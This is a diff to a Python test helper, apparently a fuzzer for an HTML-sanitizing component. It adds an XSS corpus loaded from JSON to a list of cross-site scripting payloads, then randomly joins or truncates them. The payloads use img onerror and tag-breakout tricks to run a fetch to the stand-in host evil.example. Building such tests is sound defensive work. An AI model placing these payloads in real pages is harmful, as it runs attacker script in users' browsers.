@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import json
 import random
+from pathlib import Path
 
 EVIL = "https://evil.example"
 RUN = "window.pwned=1;fetch('https://evil.example/run')"
@@ -83,6 +85,8 @@ PAYLOADS = (
     f"<noscript><p title=\"</noscript><img src=x onerror='{RUN}'>\">",
     f"<textarea></textarea><img src=x onerror=\"{RUN}\"></title></style></pre></code>",
 )  # fmt: skip
+CORPUS = json.loads((Path(__file__).parents[1] / "corpus" / "xss.json").read_text(encoding="utf-8"))
+"""As the panel's own tests show them; ``{class, text}``."""
 JOINTS = (
     "",
     " ",
@@ -106,7 +110,8 @@ JOINTS = (
 
 def hostile(chance: random.Random) -> str:
     """One payload, or some grown together, or cut off in the middle as text that still streams."""
-    parts = [chance.choice(PAYLOADS) for _ in range(chance.choice([1, 1, 2, 3]))]
+    words = [*PAYLOADS, *(entry["text"] for entry in CORPUS)]
+    parts = [chance.choice(words) for _ in range(chance.choice([1, 1, 2, 3]))]
     whole = parts[0]
     for part in parts[1:]:
         whole += chance.choice(JOINTS) + part
